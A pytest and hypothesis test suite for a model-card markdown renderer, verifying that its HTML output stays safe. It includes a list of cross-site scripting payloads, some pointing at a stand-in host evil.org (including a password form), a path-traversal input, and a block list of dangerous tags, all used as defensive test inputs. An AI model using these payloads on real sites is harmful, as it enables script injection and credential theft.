import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from models_registry.cards.markdown import CARD_MAX_CHARACTERS, render_card

LINKS, IMAGES = "/me/m/blob/main/", "/me/m/resolve/main/"


def render(text):
    return render_card(text, link_base=LINKS, image_base=IMAGES)


class Seen(HTMLParser):
    """What a browser would find: tags and attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def of(self, tag):
        return [attributes for name, attributes in self.tags if name == tag]


def assert_safe(html):
    for tag, attributes in Seen(html).tags:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "svg",
            "math",
            "base",
            "meta",
            "link",
        }
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in {"style", "srcset", "formaction"}
            if name in ("href", "src"):
                address = "".join(c for c in value or "" if c > " ").lower()
                assert not address.startswith(("javascript:", "data:", "vbscript:", "file:"))
            if name == "src":
                assert value.startswith("/") and not value.startswith(("//", "/\\"))
            if name == "id":
                assert value.startswith("card-")
        if tag == "a" and attributes.get("href"):
            assert "nofollow" in attributes["rel"] and "noopener" in attributes["rel"]
        if tag == "input":
            assert attributes["type"] == "checkbox" and "disabled" in attributes


def test_the_usual_card():
    html = render(
        "# Use it\n\n| a | b |\n|:--|--:|\n| 1 | ~~2~~ |\n\n"
        "- [x] done\n- [ ] open\n\n```python\nx < 1\n```\n\n[top](#use-it)"
    )
    assert '<h1 id="card-use-it">Use it</h1>' in html
    assert '<th align="left">a</th>' in html and "<s>2</s>" in html
    assert 'type="checkbox" disabled="" checked=""' in html
    assert '<code class="language-python">x &lt; 1' in html
    assert 'href="#card-use-it"' in html
    assert_safe(html)


@pytest.mark.parametrize(
    ("address", "leads_to"),
    [
        ("docs/use.md", LINKS + "docs/use.md"),
        ("./docs/../use.md#here", LINKS + "use.md#here"),
        ("../../../etc/passwd", LINKS + "etc/passwd"),
        ("a%20b.md?x=1", LINKS + "a%20b.md?x=1"),
        ("/me/other", "/me/other"),
        ("https://example.org/x", "https://example.org/x"),
        ("mailto:a@b.org", "mailto:a@b.org"),
    ],
)
def test_links(address, leads_to):
    for text in (f"[x]({address})", f'<a href="{address}">x</a>'):
        assert [a["href"] for a in Seen(render(text)).of("a")] == [leads_to]


@pytest.mark.parametrize(
    ("address", "leads_to"),
    [
        ("img/a.png", IMAGES + "img/a.png"),
        ("./img/a%20b.png", IMAGES + "img/a%20b.png"),
        ("/img/a.png", IMAGES + "img/a.png"),
        ("../../a.png", IMAGES + "a.png"),
        ("/me/m/resolve/main/a.png", "/me/m/resolve/main/a.png"),
    ],
)
def test_images_of_the_repository(address, leads_to):
    for text in (f"![x]({address})", f'<img src="{address}" width="20">'):
        assert [image["src"] for image in Seen(render(text)).of("img")] == [leads_to]


@pytest.mark.parametrize(
    "address", ["https://tracker.org/a.png", "//tracker.org/a.png", "/\\tracker.org/a.png", "\\\\tracker.org/a.png",
                "http://[bad", "data:image/png;base64,AAAA", "/\t/tracker.org/a.png"],
)  # fmt: skip
def test_foreign_images_are_never_fetched(address):
    for text in (f"![the alt]({address})", f'<img src="{address}" alt="the alt">'):
        html = render(text)
        # An escaped backslash is a file name in the repository; nothing else may be left as an image.
        assert all(image["src"].startswith(IMAGES + "%5C") for image in Seen(html).of("img"))
        assert "the alt" in html
        assert_safe(html)


def test_a_foreign_image_becomes_a_link_unless_it_stands_in_one():
    assert [a["href"] for a in Seen(render("![x](https://a.org/a.png)")).of("a")] == ["https://a.org/a.png"]
    assert [a["href"] for a in Seen(render("[![x](https://a.org/a.png)](https://b.org)")).of("a")] == ["https://b.org"]


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' style='background:url(//evil.org)'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=//evil.org></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.org><input name=password><button>x</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.org>",
    "<base href=//evil.org><meta http-equiv=refresh content='0;url=//evil.org'>",
    "<div id=main onclick=alert(1) style='position:fixed'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<a title="&quot;><script>alert(1)</script>" href="x">y</a>',
    '```"><script>alert(1)</script>\nx\n```',
    '![x](x.png "onerror=alert(1) \\"><script>")',
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<td style='text-align:center;background:url(//evil.org)'>x</td>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack):
    for text in (attack, f"text {attack} text", f"> - {attack}", f"|a|\n|-|\n|{attack}|", f"# {attack}"):
        assert_safe(render(text))


pieces = st.lists(
    st.sampled_from(
        [*ATTACKS, "<", ">", '"', "'", "[x](", ")", "![", "`", "\n", "<a href=", "<img src=", "&#x6a;", "//e.org/a"]
    )
    | st.text(max_size=8),
    max_size=8,
).map("".join)


@given(pieces)
@settings(max_examples=300, deadline=None)
def test_whatever_is_written_stays_harmless(text):
    html = render(text)
    assert "<script" not in html.lower()
    assert_safe(html)


@pytest.mark.parametrize(
    "text", ["<div>" * 80_000, "[" * 100_000, "![" * 50_000, "*a " * 100_000, "> " * 100_000, "<!--" * 80_000,
             "&#" * 99_999, "- " * 99_999, "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|\n" * 9_999],
)  # fmt: skip
def test_hostile_cards_are_rendered_in_seconds(text):
    started = time.process_time()
    assert_safe(render(text))
    assert time.process_time() - started < 20


def test_a_very_long_card_is_cut_and_says_so():
    html = render("word " * (CARD_MAX_CHARACTERS // 5 + 1))
    assert "This card is cut here" in html


def test_an_image_cannot_take_an_id_of_the_page():
    assert 'id="card-main"' in render_card('<img src="x.png" id="main">', link_base="/a/", image_base="/b/")
